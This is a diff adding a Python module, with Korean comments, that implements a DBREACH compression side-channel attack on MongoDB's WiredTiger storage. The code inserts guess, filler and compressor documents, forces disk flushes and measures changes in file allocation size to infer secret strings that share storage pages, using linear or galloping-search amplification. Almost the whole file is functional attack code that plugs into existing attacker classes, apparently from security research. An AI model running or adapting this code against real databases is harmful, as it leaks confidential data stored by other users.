@@ -0,0 +1,323 @@
+# dbreacher_mongo.py
+"""
+MongoDB(WiredTiger)용 DBREACHer 구현 — decisionAttacker / kOfNAttacker를 그대로 쓸 수 있다.
+
+문서 세 개(id = startIdx + 0/1/2):
+  guess 문서   : 평소엔 fillers[0], 측정 중엔 guess
+  filler 문서  : fillers[1] (YES 참조는 이 값의 앞 L글자 → 이미 페이지에 있는 문자열)
+  compressor   : '*' × c + 랜덤[c:] (길이 compressorLen), c = '*' 접두 길이
+경계 세팅: compressor를 전부 '*'로 넣고 c를 1씩 줄이며(랜덤 바이트 +1) .wt 할당 크기가 커지는 지점(base)을 찾는다.
+증폭: guess를 넣은 뒤 c를 base - ampMargin에서 1씩 늘려(압축 바이트 +1) 크기가 줄어들 때까지의 바이트 수 = bytesShrunk.
+  → MariaDB 구현과 같은 방향(압축이 잘 되는 guess일수록 bytesShrunk가 작다).
+  경계보다 ampMargin만큼 아래에서 시작하므로 guess가 filler보다 잘 압축돼도 삽입만으로 줄어들지 않는다
+  (기존 스크립트가 s_no - 5부터 다시 세던 여유와 같은 역할).
+WiredTiger는 문서 이전 버전 블록이 파일에 남을 수 있어, guess를 쓰기 전에 guess 문서를
+랜덤 값으로 두 번 덮어쓴다(scrubCopies, 기존 스크립트의 reshrink_table과 같은 처리).
+
+ampSearch="gallop"이면 경계 세팅과 증폭 모두 c를 한 글자씩 옮기지 않고 galloping + 이분 탐색으로
+찍어 본다(후보 길이마다 쓰기 한 번 + fsync 한 번). 크기는 c에 대해 단조이므로 결과는 선형과 같고
+fsync 수는 이동 거리 d에 대해 d → 약 2·log2(d)로 준다.
+"""
+import os
+import time
+
+import dbreacher
+import utils.attack_log as attack_log
+import utils.op_profile as op_profile
+
+# 1이면 guess마다 guess 문서를 랜덤 값으로 두 번 덮어써 이전 guess의 디스크 사본을 지움
+MONGO_SCRUB = os.getenv("DBREACH_MONGO_SCRUB", "1") != "0"
+MONGO_COMPRESSOR_LEN = int(os.getenv("DBREACH_MONGO_COMPRESSOR_LEN", "5000"))
+MONGO_AMP_MAX = int(os.getenv("DBREACH_MONGO_AMP_MAX", "500"))
+# 측정 시작점을 경계보다 몇 글자 아래에 둘지
+MONGO_AMP_MARGIN = int(os.getenv("DBREACH_MONGO_AMP_MARGIN", "32"))
+# linear: 한 글자씩 + flush(기존 스크립트 방식) / gallop: galloping + 이분 탐색
+MONGO_AMP_SEARCH = os.getenv("DBREACH_MONGO_AMP_SEARCH", "linear")
+AMP_GALLOP_START = 8
+
+_log = attack_log.get_logger()
+_prof = op_profile.get_profiler()
+
+
+class MongoDBREACHer(dbreacher.DBREACHer):
+    def __init__(self, controller, tablename: str, startIdx: int, maxRowSize: int, fillerCharSet,
+                 compressCharAscii: int, compressorLen: int = None, ampMax: int = None,
+                 ampMargin: int = None, ampSearch: str = None, scrubCopies: bool = None, rng=None):
+        # fillers: 0 = guess 기본값, 1 = filler 문서, 2/3 = scrub용
+        super().__init__(controller, tablename, startIdx, maxRowSize, fillerCharSet, compressCharAscii,
+                         numFillerRows=4, rng=rng)
+        self.guessId, self.fillerId, self.compressorId = self.startIdx, self.startIdx + 1, self.startIdx + 2
+        self.compressorLen = compressorLen or MONGO_COMPRESSOR_LEN
+        self.ampMax = ampMax or MONGO_AMP_MAX
+        self.ampMargin = MONGO_AMP_MARGIN if ampMargin is None else ampMargin
+        self.ampSearch = ampSearch or MONGO_AMP_SEARCH
+        self.scrubCopies = MONGO_SCRUB if scrubCopies is None else scrubCopies
+        self.nonCompressible = self._randomStr(self.compressorLen)
+
+        self.fillersInserted = False
+        self.baseCompLen = None          # 경계(막 커진 지점)에서의 '*' 접두 길이
+        self.startCompLen = None         # 측정 시작점 = baseCompLen - ampMargin
+        self.compLen = None              # compressor 문서의 현재 '*' 접두 길이
+        self.guessChanged = False
+        self.bytesShrunkForCurrentGuess = 0
+        self.compressibilityScoreReady = False
+        self.boundaryBroken = False
+        self.guessBaseSize = None
+        self.ampProbes = 0
+        self.flushCount = 0
+        self.lastSetupStats = None
+
+        _log.info("INIT", "mongo compressChar='%s', compressorLen=%d, startIdx=%d, maxRowSize=%d",
+                  self.compressChar, self.compressorLen, self.startIdx, self.maxRowSize)
+
+    def _randomStr(self, n: int) -> str:
+        return ''.join(self.rng.choices(self.fillerCharSet, k=n))
+
+    def _compressorValue(self, c: int) -> str:
+        return self.compressChar * c + self.nonCompressible[c:]
+
+    def _flush(self):
+        self.flushCount += 1
+        self.control.flush_and_wait(self.table)
+
+    def _setCompLen(self, c: int, flush: bool = True):
+        if c == self.compLen:
+            return
+        self.control.update_row(self.table, self.compressorId, self._compressorValue(c))
+        # 바뀐 글자가 전부 '*'였다면 내용이 같으므로 flush 생략(기존 스크립트와 동일)
+        changed = self.nonCompressible[min(c, self.compLen):max(c, self.compLen)]
+        self.compLen = c
+        if flush and changed.strip(self.compressChar):
+            self._flush()
+
+    # ---------- 세팅 ----------
+    def reinsertFillers(self) -> bool:
+        self.compressibilityScoreReady = False
+        self.boundaryBroken = False
+        if self.fillersInserted:
+            with _prof.phase("reinsert"):
+                self.regen_fillers()
+                self.nonCompressible = self._randomStr(self.compressorLen)
+                _log.info("REINSERT", "regenerated fillers=%d", len(self.fillers))
+        return self.insertFillers()
+
+    def insertFillers(self) -> bool:
+        with _prof.phase("filler"):
+            return self._insertFillers()
+
+    def _insertFillers(self) -> bool:
+        t0 = time.time()
+        flushes0 = self.flushCount
+        docs = [(self.guessId, self.fillers[0]), (self.fillerId, self.fillers[1]),
+                (self.compressorId, self._compressorValue(self.compressorLen))]
+        if self.fillersInserted:
+            self.control.update_rows(self.table, docs)
+        else:
+            self.control.insert_rows(self.table, docs)
+            self.fillersInserted = True
+        self.compLen = self.compressorLen
+        self.guessChanged = False
+        self._flush()
+
+        size = self.control.get_table_size_alloc(self.table)
+        _log.info("FILLER", "old_alloc=%s", size)
+        if self.ampSearch == "gallop":
+            c = self._searchBoundary(size)
+        else:
+            c = self.compressorLen - 1
+            while c >= self.ampMargin and not self._grownAt(c, size):
+                c -= 1
+        if c is None or c < self.ampMargin:
+            _log.warn("FILLER", "ERROR: compressor exhausted without growth")
+            return False
+        new_size = self.control.get_table_size_alloc(self.table)
+        self.baseCompLen = c
+        self.startCompLen = c - self.ampMargin
+        self.lastSetupStats = {"mode": "mongo", "seconds": time.time() - t0,
+                               "flushes": self.flushCount - flushes0, "rows": self.compressorLen - c,
+                               "alloc": new_size}
+        _log.info("FILLER", "boundary reached, compressor '*'=%d (random bytes=%d) alloc=%s",
+                  c, self.compressorLen - c, new_size)
+        return True
+
+    def _grownAt(self, c: int, size: int) -> bool:
+        self._setCompLen(c)
+        return self.control.get_table_size_alloc(self.table) > size
+
+    def _searchBoundary(self, size: int):
+        """
+        크기가 size보다 커지는 최대 c를 galloping + 이분 탐색으로 찾는다(선형 세팅과 같은 c).
+        top: 안 커진 것이 확인된 최소 c, bottom: 커진 것이 확인된 최대 c. ampMargin까지 안 커지면 None.
+        마지막 탐침이 top일 수 있으므로 반환 전에 compressor를 bottom으로 되돌려 선형과 같은 상태로 둔다.
+        """
+        top, bottom = self.compressorLen, None
+        step = AMP_GALLOP_START
+        while bottom is None:
+            if top <= self.ampMargin:
+                return None
+            c = max(top - step, self.ampMargin)
+            if self._grownAt(c, size):
+                bottom = c
+            else:
+                top = c
+                step *= 2
+        while top - bottom > 1:
+            mid = (top + bottom) // 2
+            if self._grownAt(mid, size):
+                bottom = mid
+            else:
+                top = mid
+        self._setCompLen(bottom)
+        return bottom
+
+    # ---------- guess ----------
+    def insertGuessAndCheckIfShrunk(self, guess: str) -> bool:
+        with _prof.phase("guess"):
+            return self._insertGuessAndCheckIfShrunk(guess)
+
+    def _insertGuessAndCheckIfShrunk(self, guess: str) -> bool:
+        self.compressibilityScoreReady = False
+        self.bytesShrunkForCurrentGuess = 0
+        self.ampProbes = 0
+
+        if self.scrubCopies:
+            # WiredTiger가 남긴 이전 guess 사본 두 개를 랜덤 값으로 덮어씀
+            for scrub in (self.fillers[2], self.fillers[3]):
+                self.control.update_row(self.table, self.guessId, scrub)
+                self._flush()
+            self.guessChanged = True
+        # guess 문서 복원과 compressor 리셋은 bulk_write 한 번으로
+        writes = []
+        if self.guessChanged:
+            writes.append((self.guessId, self.fillers[0]))
+            self.guessChanged = False
+        if self.compLen != self.startCompLen:
+            writes.append((self.compressorId, self._compressorValue(self.startCompLen)))
+            self.compLen = self.startCompLen
+        self.control.update_rows(self.table, writes)
+        self._flush()
+        old_size = self.control.get_table_size_alloc(self.table)
+
+        value = guess + self.fillers[0][len(guess):]
+        if value != self.fillers[0]:
+            self.control.update_row(self.table, self.guessId, value)
+            self.guessChanged = True
+        self._flush()
+        new_size = self.control.get_table_size_alloc(self.table)
+        self.guessBaseSize = new_size
+        _log.info("GUESS", "alloc %s -> %s", old_size, new_size)
+        if new_size < old_size:
+            self.boundaryBroken = True
+            return True
+        return False
+
+    # ---------- 증폭 ----------
+    def addCompressibleByteAndCheckIfShrunk(self) -> bool:
+        old_size = self.control.get_table_size_alloc(self.table)
+        self.bytesShrunkForCurrentGuess += 1
+        b = self.bytesShrunkForCurrentGuess
+        if b > self.ampMax or self.startCompLen + b > self.compressorLen:
+            _log.warn("AMP", "cap reached (b>%d)", b - 1)
+            self.boundaryBroken = True
+            raise RuntimeError("Amplification cap reached")
+        self._setCompLen(self.startCompLen + b)
+        new_size = self.control.get_table_size_alloc(self.table)
+        _log.debug("AMP", "b=%d alloc %s -> %s", b, old_size, new_size)
+        if new_size < old_size:
+            self.compressibilityScoreReady = True
+            _log.info("AMP", "SHRUNK! bytesShrunkForCurrentGuess=%d", b)
+            return True
+        return False
+
+    def _probeShrunk(self, b: int) -> bool:
+        """compressor를 startCompLen + b로 한 번에 바꾸고 guess 직후 크기보다 줄었는지 확인."""
+        self._setCompLen(self.startCompLen + b)
+        new_size = self.control.get_table_size_alloc(self.table)
+        self.ampProbes += 1
+        _log.debug("AMP", "probe b=%d alloc %s -> %s", b, self.guessBaseSize, new_size)
+        return new_size < self.guessBaseSize
+
+    def _searchShrinkPoint(self, lo_hint=None, hi_hint=None, max_bytes=None) -> bool:
+        """
+        DBREACHerImpl._searchShrinkPoint와 같은 탐색(힌트 → galloping → 이분).
+        상한은 ampMax와 compressor에 남은 랜덤 글자 수 중 작은 쪽.
+        """
+        cap = min(self.ampMax, self.compressorLen - self.startCompLen)
+        pruned = max_bytes is not None and max_bytes < cap
+        limit = max_bytes if pruned else cap
+        lo, hi = 0, None
+        for h in (hi_hint, lo_hint):
+            if h is None:
+                continue
+            h = int(h)
+            if h <= lo or (hi is not None and h >= hi) or h > limit:
+                continue
+            if self._probeShrunk(h):
+                hi = h
+            else:
+                lo = h
+
+        step = AMP_GALLOP_START
+        while hi is None:
+            if lo >= limit:
+                self.bytesShrunkForCurrentGuess = lo
+                if pruned:
+                    _log.info("AMP", "no shrink up to bound b=%d (probes=%d)", lo, self.ampProbes)
+                    return False
+                _log.warn("AMP", "cap reached (b>%d)", cap)
+                self.boundaryBroken = True
+                raise RuntimeError("Amplification cap reached")
+            b = min(lo + step, limit)
+            if self._probeShrunk(b):
+                hi = b
+            else:
+                lo = b
+                step *= 2
+
+        while hi - lo > 1:
+            mid = (lo + hi) // 2
+            if self._probeShrunk(mid):
+                hi = mid
+            else:
+                lo = mid
+
+        self.bytesShrunkForCurrentGuess = hi
+        self.compressibilityScoreReady = True
+        _log.info("AMP", "SHRUNK! bytesShrunkForCurrentGuess=%d (probes=%d)", hi, self.ampProbes)
+        return True
+
+    def amplifyUntilShrunk(self, lo_hint=None, hi_hint=None, max_bytes=None) -> bool:
+        with _prof.phase("amp"):
+            if self.ampSearch == "gallop":
+                return self._searchShrinkPoint(lo_hint, hi_hint, max_bytes)
+            return super().amplifyUntilShrunk(lo_hint, hi_hint, max_bytes)
+
+    # ---------- 참조 ----------
+    def getSNoReferenceScore(self, length: int, charSet) -> float:
+        with _prof.phase("ref"):
+            seq = charSet if isinstance(charSet, (list, str, tuple)) else list(charSet)
+            refGuess = ''.join(self.rng.choices(seq, k=length))
+            _log.info("REF:NO", "L=%d refGuess='%s'", length, refGuess)
+            if self.insertGuessAndCheckIfShrunk(refGuess):
+                raise RuntimeError("Table shrunk too early on insertion of NO-ref guess")
+            self.amplifyUntilShrunk()
+            return self.getBytesShrunkForCurrentGuess()
+
+    def getSYesReferenceScore(self, length: int) -> float:
+        with _prof.phase("ref"):
+            refGuess = self.fillers[1][:length]
+            _log.info("REF:YES", "L=%d refGuess='%s' (from filler document)", length, refGuess)
+            if self.insertGuessAndCheckIfShrunk(refGuess):
+                raise RuntimeError("Table shrunk too early on insertion of YES-ref guess")
+            self.amplifyUntilShrunk()
+            return self.getBytesShrunkForCurrentGuess()
+
+    def getCompressibilityScoreOfCurrentGuess(self) -> float:
+        if self.compressibilityScoreReady:
+            return 1.0 / float(self.bytesShrunkForCurrentGuess)
+        return None
+
+    def getBytesShrunkForCurrentGuess(self) -> int:
+        if self.compressibilityScoreReady:
+            return self.bytesShrunkForCurrentGuess
+        return None